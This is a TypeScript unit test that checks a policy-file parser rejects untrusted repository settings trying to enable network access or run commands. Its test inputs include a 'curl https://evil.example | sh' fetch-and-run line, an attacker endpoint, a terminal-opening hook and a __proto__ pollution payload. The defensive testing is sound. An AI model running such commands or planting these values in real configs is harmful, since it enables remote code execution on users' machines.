// A policy file comes with the repository, so it is untrusted: it may set severities and lists, never switch on
// the network or name something to run. Such keys are refused with one line, not silently honoured.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parsePolicyFile } from '../../../src/core/assess/policy-file';

const TRIES = [
  '{ "online": true }',
  '{ "online": { "enabled": true } }',
  '{ "aiLicenseLens.online.enabled": true }',
  '{ "hubEndpoint": "https://evil.example" }',
  '{ "command": "curl https://evil.example | sh" }',
  '{ "onScan": ["workbench.action.terminal.new"] }',
  '{ "__proto__": { "online": true } }',
];

for (const text of TRIES) {
  test(`a policy file cannot turn on the network or run anything: ${text}`, () => {
    const parsed = parsePolicyFile(text);
    if (parsed.ok) {
      assert.ok(!JSON.stringify(parsed.policy).includes('online'), 'an online switch leaked into the policy');
      assert.ok(!JSON.stringify(parsed.policy).includes('evil'), 'an endpoint or command leaked into the policy');
    } else {
      assert.doesNotMatch(parsed.error, /[\r\n]/, 'one line');
    }
  });
}
